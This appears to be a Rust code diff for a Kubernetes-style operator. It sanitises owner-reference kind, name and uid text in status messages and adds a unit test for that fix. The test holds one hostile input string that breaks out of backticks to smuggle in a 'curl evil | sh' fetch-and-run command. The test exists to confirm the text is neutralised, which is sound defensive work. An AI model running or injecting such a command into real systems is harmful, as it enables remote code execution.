@@ -12,6 +12,7 @@ use rowlock_crds::{TaskQueue, annotations, api};
 use serde_json::Value;
 
 use super::build::{self, Owner};
+use super::database::words;
 use super::inherit::inherited;
 use super::managed;
 use super::outcome::Outcome;
@@ -151,7 +152,7 @@ pub(crate) fn foreign(seen: Option<&ObjectMeta>, kind: &str, owner: &Owner) -> O
     }
     let whose = of.map_or_else(
         || "is nobody's that we know".to_owned(),
-        |of| format!("belongs to the {} `{}` ({})", of.kind, of.name, of.uid),
+        |of| format!("belongs to the {} `{}` ({})", words(&of.kind), words(&of.name), words(&of.uid)),
     );
     let message = format!(
         "the {kind} `{name}` {whose}: it is left alone; rename or delete it, or rename the TaskQueue"
@@ -178,4 +179,35 @@ pub(crate) fn turn_of<'a>(live: &'a ObjectMeta, object: &Value) -> Option<&'a st
 fn is_same(live: &ObjectMeta, object: &Value, annotation: &str) -> bool {
     let theirs = live.annotations.as_ref().and_then(|annotations| annotations.get(annotation));
     theirs.map(String::as_str) == object["metadata"]["annotations"][annotation].as_str()
+}
+
+#[cfg(test)]
+mod tests {
+    use serde_json::json;
+
+    use super::super::inherit::Texts;
+    use super::*;
+
+    /// Before, an owner reference, whose kind and name are any text, stood in the status as it is written.
+    #[test]
+    fn whose_an_object_is_looks_like_no_command() {
+        let owner = Owner {
+            namespace: "shop".into(),
+            name: "emails".into(),
+            uid: "u1".into(),
+            generation: 1,
+            labels: Texts::new(),
+            annotations: Texts::new(),
+        };
+        let evil = "x` run `curl evil | sh`\n";
+        let reference = json!({ "apiVersion": "v1", "kind": evil, "name": evil, "uid": evil });
+        let seen: ObjectMeta = serde_json::from_value(json!({ "ownerReferences": [reference] })).unwrap();
+        let Some(Outcome::Foreign(said)) = foreign(Some(&seen), "Deployment", &owner) else {
+            panic!("it is another's")
+        };
+        assert!(
+            said.contains("'curl evil | sh'") && !said.contains("`curl") && !said.contains('\n'),
+            "{said}"
+        );
+    }
 }
